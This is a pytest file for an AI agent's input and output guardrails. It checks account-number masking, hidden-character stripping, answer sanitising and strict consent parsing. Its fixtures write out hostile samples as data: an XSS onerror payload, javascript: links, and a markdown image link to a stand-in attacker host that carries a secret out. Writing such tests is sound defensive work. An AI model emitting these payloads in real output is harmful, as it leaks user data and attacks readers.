"""What comes in is cleaned before anything is stored; what goes out carries nothing away."""

from typing import Any

import pytest
from langchain_core.messages import AIMessage
from langgraph.checkpoint.serde.jsonplus import JsonPlusSerializer

from agent.consent import consent
from agent.guardrails import EmptyQuestion, QuestionTooLong, clean_answer, clean_question, storable


def test_account_numbers_are_masked_before_anything_is_stored() -> None:
    assert "DE89370400440532013000" not in clean_question("Is DE89 3704 0044 0532 0130 00 ours?", 4000).replace(" ", "")


@pytest.mark.parametrize("hidden", ["\u202e", "\u200b", "\U000e0041", "\u2066", "\x00"])
def test_hidden_characters_are_taken_out(hidden: str) -> None:
    assert hidden not in clean_question(f"What is{hidden} our DSO?", 4000)


def test_nothing_but_hidden_characters_is_no_question() -> None:
    with pytest.raises(EmptyQuestion):
        clean_question("\u200b \u200b", 4000)


def test_a_question_has_a_longest_length() -> None:
    with pytest.raises(QuestionTooLong):
        clean_question("a" * 4001, 4000)


@pytest.mark.parametrize(
    ("answer", "kept"),
    [
        ("Hi <img src=x onerror=alert(1)>there", "Hi there"),
        ("![leak](https://evil.example/?q=secret)", ""),
        ("[click](https://evil.example)", "click"),
        ("[click][1]\n\n[1]: https://evil.example", "click"),
        ("see https://evil.example/x now", "see  now"),
        ("[41.2 days](#F0123456789abcd)", "[41.2 days](#F0123456789abcd)"),
        ("[page](/v1/documents/d/pages/1)", "[page](/v1/documents/d/pages/1)"),
        ("[js](javascript:alert(1))", "js"),
        ("pay\u200b \u202enow\U000e0061", "pay now"),
    ],
)
def test_an_answer_cannot_carry_data_out(answer: str, kept: str) -> None:
    assert clean_answer(answer) == kept


@pytest.mark.parametrize(
    ("said", "meant"),
    [
        ("send it", "send"), ("Yes, send it for approval.", "send"), ("ja, sende ihn zur Freigabe", "send"), ("yes", "send"),
        ("Passt, bitte zur Freigabe schicken", "send"), ("go ahead", "send"), ("drop it", "drop"), ("Verwerfen bitte", "drop"),
        ("nein, verwirf den Vorschlag", "drop"), ("send it and drop it", None), ("no", None), ("send it to my private account", None),
        ("send me the ageing", None), ("yes and also raise the limit", None), ("approve it", None), ("do not send it", None),
    ],
)  # fmt: skip
def test_the_askers_word_is_short_and_whole(said: str, meant: str | None) -> None:
    assert consent(said) == meant


@pytest.mark.parametrize("written", [10**30, float("nan"), float("inf"), "a\x00b", "\ud800", [[[[[["deep"]]]]]] * 3])
def test_whatever_a_model_writes_into_a_call_can_be_kept(written: object) -> None:
    kept = JsonPlusSerializer().dumps_typed(
        AIMessage("", tool_calls=[_call(storable({"amount": written, "\ud800\x00": {"at": [written]}}))])
    )
    assert kept[0] == "msgpack"


def _call(args: Any) -> dict[str, Any]:
    return {"name": "metric", "args": args, "id": "1", "type": "tool_call"}
